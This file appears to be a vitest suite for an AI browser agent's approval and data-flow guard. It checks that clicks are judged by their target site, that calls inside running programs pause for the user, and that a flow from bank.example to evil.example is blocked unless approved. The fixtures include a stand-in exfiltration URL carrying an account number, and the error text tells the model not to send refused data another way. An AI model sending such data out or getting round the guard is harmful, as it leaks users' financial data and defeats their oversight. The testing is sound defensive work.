/**
 * Calls are judged on their target (issue #31): allowances follow the site a call acts on (from the host's `assess`),
 * invalid arguments are answered before anyone is asked, and calls inside a running program are judged when they
 * run — the program waits for the user's answer and continues or stops.
 */
import { describe, expect, it } from 'vitest';
import { calls, say } from '../support/scriptedModel.ts';
import { FakeHost, outputOf, setup, waitFor } from './helpers.ts';
import type {
  CallAssessment,
  FlowBlock,
  FlowGrant,
  NestedFlowCheck,
  ToolRunContext,
} from '../../src/agent/toolHost.ts';
import { blockedFlowOf, FlowBlockedError, flowSentence } from '../../src/tools/guard/guard.ts';
import { z } from '../../src/shared/zod.ts';

const BLOG = 'https://blog.example';
const BANK = 'https://bank.example';

/** A host that judges like the real one: the target site comes from the call's `site` argument. */
class TargetHost extends FakeHost {
  async assess(qualifiedName: string, args: unknown): Promise<CallAssessment> {
    const a = args as Record<string, unknown>;
    if ('padding' in a) return { invalid: 'Unknown parameter: padding', destructive: false };
    const site = typeof a.site === 'string' ? a.site : undefined;
    const destructive = await this.isDestructive(qualifiedName, args);
    return {
      destructive,
      ...(site
        ? { target: { origin: site, tab: { id: site === BANK ? 2 : 1, origin: site, isRunTab: site === BLOG } } }
        : {}),
    };
  }
}

async function targetSetup(turns: NonNullable<Parameters<typeof setup>[0]>['turns']) {
  const h = await setup({ origin: BLOG, turns });
  const host = new TargetHost();
  host.define('dom.click', {
    readOnly: false,
    schema: z.object({ ref: z.string(), site: z.string() }),
    destructive: () => true,
    impl: (a) => `clicked ${String(a.ref)} on ${String(a.site)}`,
  });
  h.host = host;
  h.runner = h.newRunner();
  return { h, host };
}

describe('judging the target, not the run’s tab', () => {
  it('"Always on this site" for the blog does not cover a click acting on the bank', async () => {
    const { h, host } = await targetSetup([
      calls([{ name: 'dom__click', args: { ref: 'c', site: BLOG }, callId: 'blog' }]),
      calls([{ name: 'dom__click', args: { ref: 'send', site: BANK }, callId: 'bank' }]),
      say('done'),
    ]);
    const first = await h.runner.send(h.conversationId, 'comment then pay');
    expect(first.approval).toMatchObject({ callId: 'blog', origin: BLOG });
    const second = await h.runner.approve(h.conversationId, 'blog', 'site');
    expect(host.count('dom.click')).toBe(1);
    // The run's tab is the blog (h.origin), but the call acts on the bank: it asks, naming the bank.
    expect(second.status).toBe('awaiting_approval');
    expect(second.approval).toMatchObject({
      callId: 'bank',
      origin: BANK,
      target: { tab: { id: 2, isRunTab: false } },
    });
    await h.runner.deny(h.conversationId, 'bank');
    expect(host.count('dom.click')).toBe(1);
    expect(await h.sites.isAllowed(BLOG)).toBe(true);
    expect(await h.sites.isAllowed(BANK)).toBe(false);
  });

  it('invalid arguments are answered with the error before anyone is asked', async () => {
    const { h, host } = await targetSetup([
      calls([{ name: 'dom__click', args: { ref: 'x', site: BANK, padding: 'y'.repeat(900) }, callId: 'p' }]),
      say('ok'),
    ]);
    const state = await h.runner.send(h.conversationId, 'go');
    expect(state.status).toBe('completed');
    expect(h.eventsOf('approval.required')).toHaveLength(0);
    expect(host.count('dom.click')).toBe(0);
    expect(outputOf(await h.items(), 'p')).toBe('Error: Unknown parameter: padding');
  });
});

describe('calls inside a running program are judged when they run', () => {
  async function programSetup() {
    const { h, host } = await targetSetup([calls([{ name: 'ot__run', args: {}, callId: 'prog' }]), say('finished')]);
    const steps: string[] = [];
    host.define('ot.run', {
      readOnly: false,
      schema: z.object({}),
      impl: async (_a, ctx: ToolRunContext) => {
        steps.push('first click');
        await ctx.approve!('dom.click', { ref: 'next', site: BANK });
        steps.push('second click');
        return 'program done';
      },
    });
    return { h, host, steps };
  }

  it('pauses for the approval, then continues when allowed', async () => {
    const { h, steps } = await programSetup();
    const running = h.runner.send(h.conversationId, 'run it');
    await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
    const st = (await h.state())!;
    expect(st.approval).toMatchObject({ callId: 'prog~1', name: 'dom.click', parentCallId: 'prog', origin: BANK });
    expect(steps).toEqual(['first click']);
    expect(h.eventsOf('approval.required').at(-1)!.approval.callId).toBe('prog~1');
    await h.runner.approve(h.conversationId, 'prog~1', 'once');
    const done = await running;
    expect(done.status).toBe('completed');
    expect(steps).toEqual(['first click', 'second click']);
    expect(outputOf(await h.items(), 'prog')).toBe('program done');
  });

  it('stops with "the user denied <tool>" when denied', async () => {
    const { h, steps } = await programSetup();
    const running = h.runner.send(h.conversationId, 'run it');
    await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
    await h.runner.deny(h.conversationId, 'prog~1');
    expect((await running).status).toBe('completed');
    expect(steps).toEqual(['first click']);
    expect(outputOf(await h.items(), 'prog')).toBe('Error: the user denied dom.click');
  });

  it('a site the user always allows covers later calls inside the program', async () => {
    const { h, host } = await programSetup();
    host.impl('ot.run', async (_a, ctx) => {
      await ctx.approve!('dom.click', { ref: 'a', site: BANK });
      await ctx.approve!('dom.click', { ref: 'b', site: BANK });
      return 'both';
    });
    const running = h.runner.send(h.conversationId, 'run it');
    await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
    await h.runner.approve(h.conversationId, 'prog~1', 'site');
    expect((await running).status).toBe('completed');
    expect(h.eventsOf('approval.required')).toHaveLength(1);
  });

  it('concurrent calls inside one program are asked one at a time (fetch_many workers)', async () => {
    const { h, host } = await programSetup();
    const done: string[] = [];
    host.impl('ot.run', async (_a, ctx) => {
      await Promise.all(
        ['a', 'b'].map(async (ref) => {
          await ctx.approve!('dom.click', { ref, site: BANK });
          done.push(ref);
        }),
      );
      return done.join(',');
    });
    const running = h.runner.send(h.conversationId, 'run it');
    await waitFor(async () => (await h.state())?.approval?.callId === 'prog~1', 'the first approval');
    await h.runner.approve(h.conversationId, 'prog~1', 'once');
    await waitFor(async () => (await h.state())?.approval?.callId === 'prog~2', 'the second approval');
    expect(done).toEqual(['a']);
    await h.runner.approve(h.conversationId, 'prog~2', 'once');
    expect((await running).status).toBe('completed');
    expect(outputOf(await h.items(), 'prog')).toBe('a,b');
  });

  describe('a step both the target rule and the data-flow guard ask about: one card (code mode, #31 after #13)', () => {
    /** The step's guard as the host gives it: refuses bank → blog until allowed, and records what it was told. */
    function stepFlow() {
      const allowed: FlowGrant[][] = [];
      const flow: NestedFlowCheck = {
        blocked: async () =>
          allowed.length
            ? undefined
            : {
                block: {
                  from: [BANK],
                  to: BLOG,
                  data: 'click',
                  sentence: 'Data read from bank.example may be sent to blog.example',
                },
                pairs: [{ from: [BANK], to: BLOG }],
              },
        allow: (pairs) => allowed.push([...pairs]),
      };
      return { flow, allowed };
    }

    async function stepSetup() {
      const { h, host, steps } = await programSetup();
      const step = stepFlow();
      host.impl('ot.run', async (_a, ctx) => {
        await ctx.approve!('dom.click', { ref: 'send', site: BLOG }, step.flow);
        steps.push('clicked');
        return 'program done';
      });
      return { h, steps, step };
    }

    it('asks once, naming the flow and the action; yes lets the step’s guard pass exactly the pairs shown', async () => {
      const { h, steps, step } = await stepSetup();
      const running = h.runner.send(h.conversationId, 'run it');
      await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
      expect((await h.state())!.approval).toMatchObject({
        callId: 'prog~1',
        name: 'dom.click',
        parentCallId: 'prog',
        origin: BLOG,
        targetAsks: true,
        flow: {
          from: [BANK],
          to: BLOG,
          data: 'click',
          sentence: 'Data read from bank.example may be sent to blog.example',
        },
      });
      await h.runner.approve(h.conversationId, 'prog~1', 'once');
      expect((await running).status).toBe('completed');
      expect(h.eventsOf('approval.required')).toHaveLength(1);
      expect(step.allowed).toEqual([[{ from: [BANK], to: BLOG }]]);
      expect(steps).toEqual(['clicked']);
      expect(outputOf(await h.items(), 'prog')).toBe('program done');
      // "Once" grants nothing for good.
      expect(await h.sites.isAllowed(BLOG)).toBe(false);
      expect(await h.sites.isFlowAllowed(BANK, BLOG)).toBe(false);
    });

    it('no stops the step, and the model hears the flow it refused', async () => {
      const { h, steps, step } = await stepSetup();
      const running = h.runner.send(h.conversationId, 'run it');
      await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
      await h.runner.deny(h.conversationId, 'prog~1');
      expect((await running).status).toBe('completed');
      expect(steps).toEqual([]);
      expect(step.allowed).toEqual([]);
      expect(h.eventsOf('approval.required')).toHaveLength(1);
      expect(outputOf(await h.items(), 'prog')).toBe(
        'Error: the user denied dom.click: data read from bank.example may be sent to blog.example. Nothing was sent. Do not try to send this data another way.',
      );
    });

    it('"always" grants both: the target’s site and the pair of sites', async () => {
      const { h } = await stepSetup();
      const running = h.runner.send(h.conversationId, 'run it');
      await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
      await h.runner.approve(h.conversationId, 'prog~1', 'site');
      expect((await running).status).toBe('completed');
      expect(await h.sites.isAllowed(BLOG)).toBe(true);
      expect(await h.sites.isFlowAllowed(BANK, BLOG)).toBe(true);
    });

    it('a step only the target rule asks about keeps the plain card (no flow named)', async () => {
      const { h, host } = await programSetup();
      const quiet: NestedFlowCheck = { blocked: async () => undefined, allow: () => undefined };
      host.impl('ot.run', async (_a, ctx) => {
        await ctx.approve!('dom.click', { ref: 'send', site: BLOG }, quiet);
        return 'ok';
      });
      const running = h.runner.send(h.conversationId, 'run it');
      await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
      const approval = (await h.state())!.approval!;
      expect(approval.flow).toBeUndefined();
      expect(approval.targetAsks).toBeUndefined();
      await h.runner.approve(h.conversationId, 'prog~1', 'once');
      expect((await running).status).toBe('completed');
    });
  });
});

describe('a program step only the data-flow guard asks about: one inline card, the program goes on (code mode)', () => {
  const SENT = 'https://evil.example/c?d=ACCT-7731';
  const EVIL = 'https://evil.example';
  const SENTENCE = 'Data read from bank.example may be sent to evil.example';

  /** A host whose ot.run runs a program: a read, then a fetch the step's guard refuses until the gate allowed it. */
  async function flowOnlySetup() {
    const h = await setup({ origin: BLOG, turns: [calls([{ name: 'ot__run', args: {}, callId: 'prog' }]), say('ok')] });
    const host = new TargetHost();
    const sent: string[] = [];
    const steps: string[] = [];
    // web.fetch asks nothing of the target rule (a read); only the flow makes it a question.
    host.define('web.fetch', {
      readOnly: true,
      schema: z.object({ url: z.string() }),
      impl: (a) => (sent.push(String(a.url)), 'fetched'),
    });
    let allowed: FlowGrant[] = [];
    const guard: NestedFlowCheck = {
      blocked: async () =>
        allowed.some((p) => p.to === EVIL)
          ? undefined
          : {
              block: { from: [BANK], to: EVIL, data: SENT, sentence: SENTENCE },
              pairs: [{ from: [BANK], to: EVIL }],
            },
      allow: (pairs) => (allowed = [...allowed, ...pairs]),
    };
    host.define('ot.run', {
      readOnly: false,
      schema: z.object({}),
      impl: async (_a, ctx: ToolRunContext) => {
        steps.push('read');
        await ctx.approve!('web.fetch', { url: SENT }, guard);
        // What the interceptor's check does next: the guard refuses what the gate did not allow.
        if (!allowed.some((p) => p.to === EVIL)) throw new Error('the guard stopped web.fetch');
        sent.push(SENT);
        steps.push('after the fetch');
        return 'program done';
      },
    });
    h.host = host;
    h.runner = h.newRunner();
    return { h, sent, steps, allowed: () => allowed };
  }

  it('asks once inline, naming the flow (no action line); yes lets exactly that step through and the program goes on', async () => {
    const { h, sent, steps, allowed } = await flowOnlySetup();
    const running = h.runner.send(h.conversationId, 'run it');
    await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
    const approval = (await h.state())!.approval!;
    expect(approval).toMatchObject({
      callId: 'prog~1',
      name: 'web.fetch',
      parentCallId: 'prog',
      flow: { from: [BANK], to: EVIL, data: SENT, sentence: SENTENCE },
    });
    expect(approval.targetAsks).toBeUndefined();
    // Un-answered: nothing has left.
    expect(sent).toEqual([]);
    await h.runner.approve(h.conversationId, 'prog~1', 'once');
    expect((await running).status).toBe('completed');
    expect(h.eventsOf('approval.required').map((e) => e.approval.callId)).toEqual(['prog~1']);
    expect(allowed()).toEqual([{ from: [BANK], to: EVIL }]);
    expect(sent).toEqual([SENT]);
    expect(steps).toEqual(['read', 'after the fetch']);
    expect(outputOf(await h.items(), 'prog')).toBe('program done');
    expect(await h.sites.isFlowAllowed(BANK, EVIL)).toBe(false);
  });

  it('no stops the program; nothing is sent and the model reads the refused flow', async () => {
    const { h, sent, steps, allowed } = await flowOnlySetup();
    const running = h.runner.send(h.conversationId, 'run it');
    await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
    await h.runner.deny(h.conversationId, 'prog~1');
    expect((await running).status).toBe('completed');
    expect(sent).toEqual([]);
    expect(allowed()).toEqual([]);
    expect(steps).toEqual(['read']);
    expect(h.eventsOf('approval.required')).toHaveLength(1);
    expect(outputOf(await h.items(), 'prog')).toBe(
      'Error: the user denied web.fetch: data read from bank.example may be sent to evil.example. Nothing was sent. Do not try to send this data another way.',
    );
  });

  it('"always" stores the pair of sites, not the destination as a site for actions', async () => {
    const { h, sent } = await flowOnlySetup();
    const running = h.runner.send(h.conversationId, 'run it');
    await waitFor(async () => (await h.state())?.status === 'awaiting_approval', 'the inline approval');
    await h.runner.approve(h.conversationId, 'prog~1', 'site');
    expect((await running).status).toBe('completed');
    expect(sent).toEqual([SENT]);
    expect(await h.sites.isFlowAllowed(BANK, EVIL)).toBe(true);
    expect(await h.sites.isAllowed(EVIL)).toBe(false);
  });

  it('a program the guard still stops (the gate could not see the flow) runs again after the card on ot.run, and asks none of its earlier questions twice', async () => {
    const h = await setup({
      origin: BLOG,
      turns: [calls([{ name: 'ot__run', args: {}, callId: 'prog' }]), say('ok')],
    });
    /** With the guard's hooks: the enclosing call stopped by it pauses for the flow card and runs again after a yes. */
    class GuardedTargetHost extends TargetHost {
      async checkFlow(): Promise<FlowBlock | undefined> {
        return undefined; // ot.run itself sends nothing
      }
      blockedFlow(error: unknown): FlowBlock | undefined {
        const b = blockedFlowOf(error);
        return b ? { ...b.flow, sentence: flowSentence(b.flow.from, b.flow.to) } : undefined;
      }
    }
    const host = new GuardedTargetHost();
    host.define('dom.click', {
      readOnly: false,
      schema: z.object({ ref: z.string(), site: z.string() }),
      destructive: () => true,
      impl: () => 'clicked',
    });
    const steps: string[] = [];
    const sent: string[] = [];
    host.define('ot.run', {
      readOnly: false,
      schema: z.object({}),
      impl: async (_a, ctx: ToolRunContext) => {
        await ctx.approve!('dom.click', { ref: 'next', site: BANK });
        steps.push('next');
        // A step whose refusal the program survives (web.fetch_many goes on past a refused fetch).
        await ctx.approve!('dom.click', { ref: 'other', site: BANK }).catch(() => steps.push('other refused'));
        // The guard stops the last step although the gate saw no flow (the page changed in between, say).
        const granted = ctx.flow?.grants?.some((g) => g.to === EVIL);
        if (!granted)
          throw new FlowBlockedError('web.fetch', { ok: false, from: [BANK], to: EVIL, data: SENT, kind: 'url' });
        sent.push(SENT);
        return 'program done';
      },
    });
    h.host = host;
    h.runner = h.newRunner();
    const running = h.runner.send(h.conversationId, 'run it');
    await waitFor(async () => (await h.state())?.approval?.callId === 'prog~1', 'the first inline approval');
    await h.runner.approve(h.conversationId, 'prog~1', 'once');
    await waitFor(async () => (await h.state())?.approval?.callId === 'prog~2', 'the second inline approval');
    await h.runner.deny(h.conversationId, 'prog~2');
    const paused = await running;
    expect(paused.approval).toMatchObject({ callId: 'prog', name: 'ot.run', flow: { to: EVIL, sentence: SENTENCE } });
    expect(sent).toEqual([]);
    // Yes on ot.run (in a restarted worker: the answers come from the stored run): the program runs from the start,
    // and the two earlier cards get their answers, unasked.
    h.runner = h.newRunner();
    const done = await h.runner.approve(h.conversationId, 'prog', 'once');
    expect(done.status).toBe('completed');
    expect(h.eventsOf('approval.required').map((e) => e.approval.callId)).toEqual(['prog~1', 'prog~2', 'prog']);
    expect(steps).toEqual(['next', 'other refused', 'next', 'other refused']);
    expect(sent).toEqual([SENT]);
    expect(outputOf(await h.items(), 'prog')).toBe('[The user approved this call.]\nprogram done');
    expect((await h.state())!.pendingCalls).toEqual([]);
  });
});
